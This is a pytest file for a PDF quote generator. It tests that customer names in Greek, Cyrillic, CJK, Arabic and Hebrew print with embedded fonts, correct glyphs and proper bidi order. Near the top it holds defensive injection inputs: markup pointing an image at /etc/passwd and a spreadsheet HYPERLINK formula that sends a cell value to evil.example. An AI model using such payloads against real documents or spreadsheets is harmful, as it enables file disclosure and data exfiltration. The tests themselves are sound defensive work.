"""The quote PDF's text: customer text printed literally, names in any script with every font embedded and every glyph
present, paragraphs laid out as reportlab would."""

from __future__ import annotations

import io
import shutil
import subprocess
import unicodedata
from functools import cache
from pathlib import Path

import pytest
from pdf_helpers import all_text, render
from pypdf import PdfReader
from reportlab.pdfbase.ttfonts import TTFontFile
from reportlab.platypus import Paragraph

from cpiquote.documents.pdf.text import (
    ARABIC_FONT_BOLD,
    CJK_FONT,
    FALLBACK_FILES,
    FONT,
    FONT_BOLD,
    FONT_FILES,
    HEBREW_FONT,
    Para,
    make_styles,
    runs,
)
from cpiquote.pricing import PriceBook, QuoteRequest
from cpiquote.resources import resource_path

HOSTILE = ['<b>x</b> & "q" <img src="/etc/passwd">', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "<para>&amp; </font>"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_customer_text_prints_literally_and_loads_nothing(sample_pricebook: PriceBook, name: str) -> None:
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    squeezed = all_text(data).replace(" ", "")  # a long word may be split over two lines
    assert squeezed.count(name.replace(" ", "")) >= 3  # customer, contact and the signature block
    assert sum(len(page.images) for page in PdfReader(io.BytesIO(data)).pages) == 1  # the logo, nothing the name pointed at


SCRIPTS = {"greek": "Ελληνικές Τηλεπικοινωνίες Α.Ε.", "cyrillic": "ООО «Ромашка» Москва", "chinese": "北京星辰科技有限公司",
           "japanese": "株式会社ひかり 山田太郎", "korean": "삼성전자 주식회사 김민수", "mixed": "Acme 東京 (Ωmega)"}  # fmt: skip


@pytest.mark.parametrize("script", SCRIPTS)
def test_names_in_other_scripts_read_back_as_written(sample_pricebook: PriceBook, script: str) -> None:
    name = SCRIPTS[script]
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    assert name in all_text(data)
    assert b"/FontFile2" in data  # DejaVu Sans is embedded, so Latin, Greek and Cyrillic print anywhere
    if script in ("chinese", "japanese", "korean", "mixed"):
        assert CJK_FONT.encode() in data  # the CJK run switched to the embedded CJK font, which has its glyphs
    if shutil.which("pdftotext"):
        extracted = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
        assert name in " ".join(extracted.split())


@pytest.mark.parametrize(
    "text", ["24 hours a day, in the subscription", "  runs of   spaces\n and a line break ", "Ελένη Παπαδοπούλου", "1\xa0234\xa0€", ""]
)
def test_plain_text_paragraph_breaks_lines_as_reportlab_would(text: str) -> None:
    """Plain text skips reportlab's markup parser: the fragments, lines and height must be what the parser gives."""
    style = make_styles("#224422", "#88AA88").body
    ours, theirs = Para(text, style), Paragraph(text, style)
    assert [frag.__dict__ for frag in ours.frags] == [frag.__dict__ for frag in theirs.frags]
    assert ours.wrap(60, 500) == theirs.wrap(60, 500)
    assert ours.blPara.lines == theirs.blPara.lines


def test_paragraph_split_over_a_page_break_keeps_every_word() -> None:
    style = make_styles("#224422", "#88AA88").body
    words = [f"word{i}" for i in range(120)]
    paragraph = Para(" ".join(words), style)
    _, height = paragraph.wrap(200, 10_000)
    assert paragraph.split(200, style.leading * 1.5) == []  # one line only: the whole paragraph moves to the next page
    assert paragraph.wrap(200, 10_000) == (200, height)  # and still lays out there
    first, rest = paragraph.split(200, height / 2)
    printed = [word for part in (first, rest) for _, line in (part.wrap(200, 10_000) and part.blPara.lines) for word in line]
    assert printed == words


# The customer of issue 13, and a name in each other script the quote embeds a font for.
CUSTOMERS = {
    "japanese, chinese and korean": "株式会社ライブアシスト 北京 서울",
    "greek": "Ελληνικές Τηλεπικοινωνίες Α.Ε.",
    "cyrillic": "ООО «Ромашка» Москва",
    "arabic": "شركة النور للتجارة",  # with "(ش.م.م)" it prints right too, but pdftotext reorders the dots (test_bidi checks it)
    "hebrew": 'חברת אלפא בע"מ',
}


def tool(name: str) -> str:
    """The path of a poppler tool, or a skip where it is not installed."""
    found = shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed (Debian: poppler-utils)")
    return found


@cache
def shipped_glyphs() -> dict[str, set[int]]:
    """Each shipped font's code points with a glyph, by the font's PostScript name (a PDF names the font by it)."""
    found = {}
    for file in {**FONT_FILES, **FALLBACK_FILES}.values():
        face = TTFontFile(str(resource_path("fonts", file)))
        found[face.name.decode()] = set(face.charToGlyph)
    return found


@cache
def customer_pdf(name: str, sample_pricebook: PriceBook) -> bytes:
    return render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))[1]


@pytest.mark.parametrize("script", CUSTOMERS)
def test_every_font_of_the_quote_is_embedded_so_any_viewer_prints_it(sample_pricebook: PriceBook, script: str, tmp_path: Path) -> None:
    pdf = tmp_path / "quote.pdf"
    pdf.write_bytes(customer_pdf(CUSTOMERS[script], sample_pricebook))
    listing = subprocess.run([tool("pdffonts"), str(pdf)], capture_output=True, text=True, check=True).stdout.splitlines()[2:]
    fonts = {line.split()[0]: line.split()[-5] for line in listing}  # name: its "emb" column
    assert fonts and all(embedded == "yes" for embedded in fonts.values()), fonts  # no HeiseiKakuGo, no Helvetica


@pytest.mark.parametrize("script", CUSTOMERS)
def test_every_character_prints_with_a_glyph_of_its_own_font(sample_pricebook: PriceBook, script: str) -> None:
    """No "missing glyph" box: each piece of text is drawn in a shipped font whose character map has each of its characters."""
    drawn: list[tuple[str, str]] = []
    for page in PdfReader(io.BytesIO(customer_pdf(CUSTOMERS[script], sample_pricebook))).pages:
        page.extract_text(visitor_text=lambda text, _cm, _tm, font, _size: drawn.append((str(font["/BaseFont"]) if font else "", text)))
    glyphs = shipped_glyphs()
    for font, text in drawn:
        name = font.partition("+")[2].removesuffix("-0")  # "/AAAAAA+DejaVuSans": a subset; "-0": face 0 of a collection
        missing = [char for char in text if not char.isspace() and ord(char) not in glyphs.get(name, set())]
        assert not missing, f"{font} has no glyph for {missing} in {text!r}"
    printed = unicodedata.normalize("NFKC", "".join(text for _, text in drawn))  # Arabic is drawn as presentation forms
    assert set(CUSTOMERS[script]) <= set(printed)  # the name's own characters were among those checked


@pytest.mark.parametrize("script", CUSTOMERS)
def test_the_customer_name_reads_back_as_typed(sample_pricebook: PriceBook, script: str) -> None:
    """pdftotext reads right-to-left text back in logical order; Arabic comes back as presentation forms, which NFKC
    (as search and copy tools apply) turns into the letters typed."""
    extracted = subprocess.run([tool("pdftotext"), "-", "-"], input=customer_pdf(CUSTOMERS[script], sample_pricebook), capture_output=True)
    text = "".join(char for char in extracted.stdout.decode() if unicodedata.category(char) != "Cf")  # direction marks
    lines = [" ".join(unicodedata.normalize("NFKC", line).split()) for line in text.splitlines()]
    assert CUSTOMERS[script] in lines  # the customer line under "Prepared for", whole and in order
    assert f"Attention: {CUSTOMERS[script]}" in lines


def test_a_right_to_left_name_that_wraps_reads_from_its_first_line(sample_pricebook: PriceBook) -> None:
    """Lines break in the order typed and each prints right to left, so the first line holds the name's first words."""
    name = "الشركة الوطنية المتحدة للاتصالات وتقنية المعلومات والخدمات الرقمية"  # two lines in the customer box
    extracted = subprocess.run([tool("pdftotext"), "-", "-"], input=customer_pdf(name, sample_pricebook), capture_output=True).stdout
    text = unicodedata.normalize("NFKC", "".join(char for char in extracted.decode() if unicodedata.category(char) != "Cf"))
    lines = [" ".join(line.split()) for line in text.splitlines()]
    first = next(i for i, line in enumerate(lines) if line and name.startswith(line))
    assert len(lines[first]) < len(name) and f"{lines[first]} {lines[first + 1]}" == name


def test_the_customer_page_renders_without_complaint(sample_pricebook: PriceBook, tmp_path: Path) -> None:
    pdf = tmp_path / "quote.pdf"
    pdf.write_bytes(customer_pdf(CUSTOMERS["japanese, chinese and korean"], sample_pricebook))
    rendered = subprocess.run(
        [tool("pdftoppm"), "-r", "40", "-f", "1", "-l", "1", "-png", str(pdf), str(tmp_path / "page")], capture_output=True
    )
    assert rendered.returncode == 0 and not rendered.stderr, rendered.stderr  # poppler says when it substitutes a font
    assert (tmp_path / "page-1.png").stat().st_size > 0


@pytest.mark.parametrize(
    ("text", "font", "expected"),
    [
        ("Contoso Ltd", FONT, [("Contoso Ltd", FONT)]),  # Latin stays in the body font, one run
        ("Ωmega Москва", FONT, [("Ωmega Москва", FONT)]),
        ("Acme 東京", FONT, [("Acme ", FONT), ("東京", CJK_FONT)]),
        ("서울", FONT_BOLD, [("서울", CJK_FONT)]),  # one weight: bold Hangul prints regular
        ("نور", FONT_BOLD, [("ﺭﻮﻧ", ARABIC_FONT_BOLD)]),  # joined, right to left, in the bold Arabic font
        ("נור", FONT, [("רונ", HEBREW_FONT)]),
        ('בע"מ', FONT, [("מ", HEBREW_FONT), ('"', FONT), ("עב", HEBREW_FONT)]),  # the Hebrew font has no quote mark
    ],
)
def test_each_character_is_set_in_its_scripts_font_in_printing_order(text: str, font: str, expected: list[tuple[str, str]]) -> None:
    make_styles("#224422", "#88AA88")
    assert runs(text, font) == expected


def test_a_paragraph_sets_each_script_in_its_font_and_keeps_latin_text_as_it_was() -> None:
    style = make_styles("#224422", "#88AA88").customer
    latin = Para("Contoso Ltd", style)
    assert [(frag.text, frag.fontName) for frag in latin.frags] == [("Contoso Ltd", FONT_BOLD)]
    mixed = Para("Acme 北京 <b>x</b>", make_styles("#224422", "#88AA88").body)
    assert [(frag.text, frag.fontName) for frag in mixed.frags] == [("Acme ", FONT), ("北京", CJK_FONT), (" ", FONT), ("x", FONT_BOLD)]
